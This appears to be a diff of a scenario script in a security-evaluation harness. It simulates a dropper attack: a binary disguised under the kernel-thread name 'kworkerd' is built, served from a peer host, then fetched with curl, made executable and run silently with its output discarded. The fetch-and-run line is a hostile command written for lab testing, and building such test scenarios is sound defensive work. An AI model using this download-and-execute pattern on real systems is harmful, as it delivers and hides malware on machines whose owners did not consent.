@@ -9,18 +9,16 @@ SC_DESC="C build (cc) in 3 modes; attack: curl downloads a binary, runs it: id/u
 SC_TOOLS="cc curl kworkerd(dropper.c) sh id uname cat hostname"
 SC_ATTACKER="curl kworkerd sh id uname cat hostname"
 
-sc_setup() {
-	build_setup
+sc_attack_setup() {
 	mkdir -p "$WORK/srv"
 	cc -O2 -o "$WORK/srv/kworkerd" "$EVAL_DIR/workloads/dropper.c" ||
 		die "cannot build the dropped binary"
 	(cd "$WORK/srv" && peer_spawn "$PY" "$EVAL_DIR/workloads/sink.py" "$PEER_IP" 8000)
 }
-sc_normal() { build_normal "$1"; }
 dropper_attacker() {
 	local d="$WORK/.x"
 	mkdir -p "$d" && cd "$d" || return
 	curl -s --max-time 3 -o kworkerd "http://$PEER_IP:8000/kworkerd" &&
-		chmod +x kworkerd && exec ./kworkerd "$PEER_IP" 8000 12
+		chmod +x kworkerd && exec ./kworkerd "$PEER_IP" 8000 12 > /dev/null 2>&1
 }
 sc_attack() { cg_fn dropper_attacker; }
